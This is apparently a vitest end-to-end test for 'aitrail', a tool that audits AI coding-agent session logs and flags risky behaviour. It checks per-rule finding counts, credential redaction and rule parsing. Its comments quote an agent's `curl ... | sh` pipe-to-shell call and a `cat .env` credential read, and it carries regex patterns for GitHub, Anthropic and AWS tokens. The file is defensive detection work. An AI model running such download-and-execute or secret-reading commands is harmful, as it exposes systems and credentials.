import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readJsonl, REPO, runCli, stackTraceLines, unwrapOclif } from './test-helpers/hostile-harness.js';
import { sharedAnalyze, sharedCollect } from './test-helpers/shared-run.js';

// Findings over every fixture home and over the real corpus laid out as homes, reviewed by hand
// once (each count below says why); no rule may fire on every session. Also `aitrail rules`,
// `--rules` and a rule that does not parse.

type F = { rule_id: string; user: string; agent: string; session_id: string; reason: string; rows: { source_file: string; excerpt: string }[] };
const countBy = (f: F[]) => Object.fromEntries([...new Set(f.map((x) => x.rule_id))].sort().map((id) => [id, f.filter((x) => x.rule_id === id).length]));

/** Sessions in sessions.jsonl, and how many of them each rule has a finding in. */
function perSession(out: string, f: F[]): { sessions: number; worst: number } {
  const sessions = readJsonl<{ session_id: string }>(join(out, 'sessions.jsonl')).length;
  const by = new Map<string, Set<string>>();
  for (const x of f) if (x.session_id) by.set(x.rule_id, (by.get(x.rule_id) ?? new Set()).add(`${x.user}\0${x.agent}\0${x.session_id}`));
  return { sessions, worst: Math.max(0, ...[...by.values()].map((s) => s.size)) };
}

describe('findings over every fixture home', () => {
  let out: string;
  let code: number | null;
  let stderr: string;
  let f: F[];
  beforeAll(async () => {
    const homes = readdirSync(join(REPO, 'fixtures/homes'), { withFileTypes: true })
      .filter((d) => d.isDirectory())
      .map((d) => join(REPO, 'fixtures/homes', d.name));
    const c = await sharedCollect(homes);
    expect(c.run.code, c.run.stderr).toBe(0);
    const a = await sharedAnalyze(c.zip);
    ({ out } = a);
    ({ code, stderr } = a.run);
    f = readJsonl<F>(join(out, 'findings.jsonl'));
  }, 300_000);

  it('exits 0 and prints the findings line', () => {
    expect(code, stderr).toBe(0);
    expect(stackTraceLines(stderr)).toEqual([]);
  });

  it('has the reviewed count per rule', () => {
    expect(countBy(f)).toEqual({
      // a prompt in the credentials fixture pastes a GitHub token (the fixture's point)
      'credential-in-conversation': 1,
      // zed-spec's deleted thread, carved back from threads.db: its `cat .env` terminal call
      'credential-store-read': 1,
      // the same deleted Zed thread, and copilot-store-deleted's deleted session: their
      // 'deleted ... recovered' rows
      'deleted-conversation': 2,
      // amp-spec's second thread: the model calls `git push --force` (the user rejects it; the
      // attempt is what the rule reports)
      'force-push': 1,
      // servers whose env, header, argument or URL holds a credential value, in the MCP fixtures
      // of copilot-mcp (2), credentials, crush, cursor-spec (2), cursor-variants (2), gemini,
      // goose (2), live-claude (3), opencode (2), vscode-variants (2), windows-basic, amazon-q,
      // cline-family (cline's github env token and docs bearer header, roo-code's fs API_TOKEN),
      // continue-spec (the sqlite server's DB_PASSWORD), zed-spec's settings (github env token,
      // linear's older nested env, sentry header), amp-spec's settings (github env token, sentry
      // header), windsurf-spec's mcp_config.json (github env token, docs bearer header)
      'mcp-server-credential': 31,
      // copilot-mcp's cached playwright tools mark browser_file_upload destructive
      'mcp-server-destructive': 1,
      // jetbrains-ai-spec's Junie session: an MCP terminal call `curl -s https://example.com/install.sh | sh`
      // (denied by the user; the attempt is what the rule reports)
      'pipe-to-shell': 1,
      // periods in an unattended mode: Copilot allow-all on (seed001 twice, copilot-mcp), Codex
      // approval never (seed-codex, and `codex exec` in the live fixtures: 3+3), Qwen Code yolo,
      // hostile-html's Claude Code session in bypassPermissions
      'unattended-run': 12,
      // codex-live-0171's config.toml approval_policy=never; cursor-variants' permissions.json
      // autoRun=true, composerState.useYoloMode=true and modes4.agent.autoRun=true; zed-spec's
      // always_allow_tool_actions=true (its Linux and Windows settings) and the Claude agent it
      // drives in bypassPermissions; amp-spec's dangerouslyAllowAll=true
      'unattended-setting': 8,
    });
  });

  it('no rule fires on every session', () => {
    const { sessions, worst } = perSession(out, f);
    expect(worst).toBeLessThan(sessions);
  });

  it('never prints a credential value', () => {
    const text = readFileSync(join(out, 'findings.jsonl'), 'utf8');
    expect(text).not.toMatch(/gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|sk-ant-[A-Za-z0-9_-]{20,}|AKIA[0-9A-Z]{16}/);
    expect(f.find((x) => x.rule_id === 'credential-in-conversation')!.rows[0].excerpt).toContain('[REDACTED]');
  });
});

const CORPUS = join(REPO, '../shared/corpus/real');
// Folders that are a home tree as they are; Lantern's copilot-home is a ~/.copilot.
const SPECIAL = new Set(['WildChildForLife__lantern', 'ingo-eichhorst__Irrlicht', 'gmfstu__Online-Card-Architecture']);

describe.skipIf(!existsSync(CORPUS))('findings over the real corpus laid out as homes', () => {
  let T: string;
  let out: string;
  let f: F[];
  let run: Awaited<ReturnType<typeof runCli>>;
  beforeAll(async () => {
    T = mkdtempSync(join(tmpdir(), 'aitrail-e2e-findings-'));
    const homes: string[] = [];
    for (const d of readdirSync(CORPUS, { withFileTypes: true })) {
      if (!d.isDirectory() || SPECIAL.has(d.name)) continue;
      cpSync(join(CORPUS, d.name), join(T, 'homes', d.name.toLowerCase()), { recursive: true });
      homes.push(join(T, 'homes', d.name.toLowerCase()));
    }
    cpSync(join(CORPUS, 'WildChildForLife__lantern/fixtures/copilot-home'), join(T, 'homes', 'lantern', '.copilot'), { recursive: true });
    homes.push(join(T, 'homes', 'lantern'));
    const scen = join(CORPUS, 'ingo-eichhorst__Irrlicht/replaydata/agents/claudecode/scenarios');
    for (const sc of readdirSync(scen)) {
      for (const rec of readdirSync(join(scen, sc, 'recordings'))) {
        const t = join(scen, sc, 'recordings', rec, 'transcript.jsonl');
        if (!existsSync(t)) continue;
        const dir = join(T, 'homes', 'irrlicht', '.claude', 'projects', `-tmp-${sc}`);
        mkdirSync(dir, { recursive: true });
        cpSync(t, join(dir, `${rec}.jsonl`));
      }
    }
    homes.push(join(T, 'homes', 'irrlicht'));
    const c = await runCli(['collect', ...homes.flatMap((h) => ['--home', h]), '--out', join(T, 'c.zip')], { timeoutMs: 300_000 });
    expect(c.code, c.stderr).toBe(0);
    out = join(T, 'out');
    run = await runCli(['analyze', join(T, 'c.zip'), '--out', out], { timeoutMs: 600_000 });
    f = readJsonl<F>(join(out, 'findings.jsonl'));
  }, 900_000);
  afterAll(() => rmSync(T, { recursive: true, force: true }));

  it('exits 0 with the findings line on stdout', () => {
    expect(run.code, run.stderr.slice(-2000)).toBe(0);
    expect(run.stdout).toMatch(/^Findings: \d+ \(findings\.jsonl\): /m);
  });

  it('has the reviewed count per rule', () => {
    expect(countBy(f)).toEqual(CORPUS_COUNTS);
  });

  it('no rule fires on every session', () => {
    const { sessions, worst } = perSession(out, f);
    expect(worst).toBeLessThan(sessions);
  });

  it('never prints a credential value', () => {
    expect(readFileSync(join(out, 'findings.jsonl'), 'utf8')).not.toMatch(/gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|sk-ant-[A-Za-z0-9_-]{20,}|AKIA[0-9A-Z]{16}/);
  });
});

// Reviewed by hand on the corpus (560 sessions), each with the reason.
const CORPUS_COUNTS: Record<string, number> = {
  // fabien-lessirard's Gemini prompt pastes browser console output with an `Authorization: Bearer`
  // header (the corpus copy holds REDACTED_BY_COLLECTOR where the original token was)
  'credential-in-conversation': 1,
  // JaydenXsoe's two Codex config.toml (live and main_codex.back) give the search server its
  // API keys in env values
  'mcp-server-credential': 2,
  // ADIOCLASSMATE's Codex session ran with approval never and danger-full-access: 47 tool calls
  'unattended-run': 1,
  // XEFF09's Copilot session in ~/.dotfiles/.copilot created ~/.dotfiles/.github/copilot-instructions.md
  'write-outside-project': 1,
};

describe('aitrail rules and --rules', () => {
  const T = mkdtempSync(join(tmpdir(), 'aitrail-e2e-rules-'));
  afterAll(() => rmSync(T, { recursive: true, force: true }));

  it('lists the built-in rules with their level, kind and file', async () => {
    const r = await runCli(['rules', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const list = JSON.parse(r.stdout) as { id: string; level: string; reports: boolean; file: string; line: number }[];
    expect(list.find((x) => x.id === 'unattended-run')).toMatchObject({ level: 'high', reports: true, file: 'rules/unattended-mode.yml' });
    expect(list.find((x) => x.id === 'unattended-mode-on')).toMatchObject({ reports: false });
    const text = await runCli(['rules']);
    expect(text.stdout).toContain('pipe-to-shell  [high]  Download piped into a shell');
  }, 180_000);

  it('a rule that does not parse stops analyze and rules with exit 2, naming the file and line, no stack trace', async () => {
    const dir = join(T, 'bad');
    mkdirSync(dir);
    writeFileSync(join(dir, 'mine.yml'), 'title: mine\nid: mine\nlevel: high\ndetection:\n  sel:\n    text|contains: x\n  condition: sel or\n');
    for (const args of [['rules', '--rules', dir], ['analyze', join(T, 'missing.zip'), '--rules', dir, '--out', join(T, 'o')]]) {
      const r = await runCli(args);
      expect(r.code, r.stderr).toBe(2);
      expect(unwrapOclif(r.stderr)).toContain(`${join(dir, 'mine.yml')}:7: expected a selection name in condition "sel or", found its end`);
      expect(stackTraceLines(r.stderr)).toEqual([]);
    }
    expect(existsSync(join(T, 'o'))).toBe(false);
  }, 180_000);

  it('--rules adds a user rule to analyze; --no-findings writes none and removes one an earlier run left', async () => {
    const dir = join(T, 'good');
    mkdirSync(dir);
    writeFileSync(join(dir, 'npm.yml'), 'title: npm test run\nid: npm-test\nlevel: low\ndetection:\n  sel:\n    turn_type: tool_use\n    text|startswith: npm test\n  condition: sel\n');
    const c = await sharedCollect([join(REPO, 'fixtures/homes/seed-copilot')]);
    const a = await runCli(['analyze', c.zip, '--rules', dir, '--out', join(T, 'with')]);
    expect(a.code, a.stderr).toBe(0);
    const mine = readJsonl<F>(join(T, 'with', 'findings.jsonl')).filter((x) => x.rule_id === 'npm-test');
    expect(mine.map((x) => x.rows[0].excerpt)).toEqual(['npm test']);
    expect(a.stdout).toContain('npm-test 1');
    const b = await runCli(['analyze', c.zip, '--no-findings', '--out', join(T, 'without')]);
    expect(b.code, b.stderr).toBe(0);
    expect(existsSync(join(T, 'without', 'findings.jsonl'))).toBe(false);
    // Into the folder of the first run: its findings.jsonl would describe other data beside the new timeline.
    const again = await runCli(['analyze', c.zip, '--no-findings', '--out', join(T, 'with')]);
    expect(again.code, again.stderr).toBe(0);
    expect(existsSync(join(T, 'with', 'findings.jsonl'))).toBe(false);
    expect(existsSync(join(T, 'with', 'timeline.jsonl'))).toBe(true);
  }, 300_000);
});
